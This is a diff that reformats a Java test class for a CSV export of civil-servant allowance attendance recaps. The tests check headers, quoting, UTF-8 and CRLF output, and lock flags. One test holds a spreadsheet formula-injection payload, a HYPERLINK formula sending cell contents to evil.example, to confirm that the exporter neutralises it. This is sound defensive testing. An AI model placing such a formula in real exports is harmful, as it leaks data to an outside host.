@@ -20,8 +20,9 @@ class TppCsvTest {
 
     @Test
     void startsWithTheFixedHeaderLine() throws IOException {
-        assertThat(lines(written(NovemberRecap.everyOpd())).get(0)).isEqualTo("nip,nama,kode_opd,bulan,hari_kerja,"
-                + "hadir,tk,menit_terlambat,menit_pulang_cepat,potongan_persen,versi_aturan,terkunci");
+        assertThat(lines(written(NovemberRecap.everyOpd())).get(0))
+                .isEqualTo("nip,nama,kode_opd,bulan,hari_kerja,"
+                        + "hadir,tk,menit_terlambat,menit_pulang_cepat,potongan_persen,versi_aturan,terkunci");
     }
 
     @Test
@@ -39,8 +40,9 @@ class TppCsvTest {
     void quotesANameHoldingAComma() throws IOException {
         String csv = written(NovemberRecap.everyOpd());
 
-        assertThat(lines(csv).get(1)).isEqualTo(SITI_NIP + ",\"Siti Aminah, S.Kom.\",DISKOMINFO,2026-11,21,21,0,92,35,"
-                + "3.00,PERBUP-2026,false");
+        assertThat(lines(csv).get(1))
+                .isEqualTo(SITI_NIP + ",\"Siti Aminah, S.Kom.\",DISKOMINFO,2026-11,21,21,0,92,35,"
+                        + "3.00,PERBUP-2026,false");
         CSVRecord siti = records(csv).get(0);
         assertThat(siti.get("nip")).isEqualTo(SITI_NIP);
         assertThat(siti.get("nama")).isEqualTo(SITI);
@@ -62,15 +64,27 @@ class TppCsvTest {
 
     @Test
     void saysWhetherTheMonthWasLocked() throws IOException {
-        assertThat(records(written(NovemberRecap.diskominfoOnly()))).extracting(record -> record.get("terkunci"))
+        assertThat(records(written(NovemberRecap.diskominfoOnly())))
+                .extracting(record -> record.get("terkunci"))
                 .containsOnly("true");
     }
 
     @Test
     void writesUtf8WithoutAByteOrderMarkAndEndsLinesWithCrLf() throws IOException {
-        RecapReport report = NovemberRecap.report(null, true, NovemberRecap.section("DISDUKCAPIL",
-                "Dinas Kependudukan dan Pencatatan Sipil", null, List.of(new RecapReport.Line(1, SITI_NIP,
-                        "Nur’aini Ma’ruf", null, "DISDUKCAPIL", NovemberRecap.diskominfo().lines().get(0).recap()))));
+        RecapReport report = NovemberRecap.report(
+                null,
+                true,
+                NovemberRecap.section(
+                        "DISDUKCAPIL",
+                        "Dinas Kependudukan dan Pencatatan Sipil",
+                        null,
+                        List.of(new RecapReport.Line(
+                                1,
+                                SITI_NIP,
+                                "Nur’aini Ma’ruf",
+                                null,
+                                "DISDUKCAPIL",
+                                NovemberRecap.diskominfo().lines().get(0).recap()))));
         byte[] bytes = bytes(report);
 
         assertThat(bytes[0]).isEqualTo((byte) 'n');
@@ -82,9 +96,20 @@ class TppCsvTest {
     @Test
     void neverHandsASpreadsheetAFormula() throws IOException {
         String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
-        RecapReport report = NovemberRecap.report(null, true, NovemberRecap.section("DISDUKCAPIL",
-                "Dinas Kependudukan dan Pencatatan Sipil", null, List.of(new RecapReport.Line(1, SITI_NIP,
-                        formula, null, "DISDUKCAPIL", NovemberRecap.diskominfo().lines().get(0).recap()))));
+        RecapReport report = NovemberRecap.report(
+                null,
+                true,
+                NovemberRecap.section(
+                        "DISDUKCAPIL",
+                        "Dinas Kependudukan dan Pencatatan Sipil",
+                        null,
+                        List.of(new RecapReport.Line(
+                                1,
+                                SITI_NIP,
+                                formula,
+                                null,
+                                "DISDUKCAPIL",
+                                NovemberRecap.diskominfo().lines().get(0).recap()))));
 
         assertThat(records(written(report)).get(0).get("nama")).isEqualTo("'" + formula);
     }
@@ -109,7 +134,11 @@ class TppCsvTest {
     }
 
     private static List<CSVRecord> records(String csv) throws IOException {
-        CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
+        CSVFormat format = CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get();
         return format.parse(new StringReader(csv)).getRecords();
     }
 }
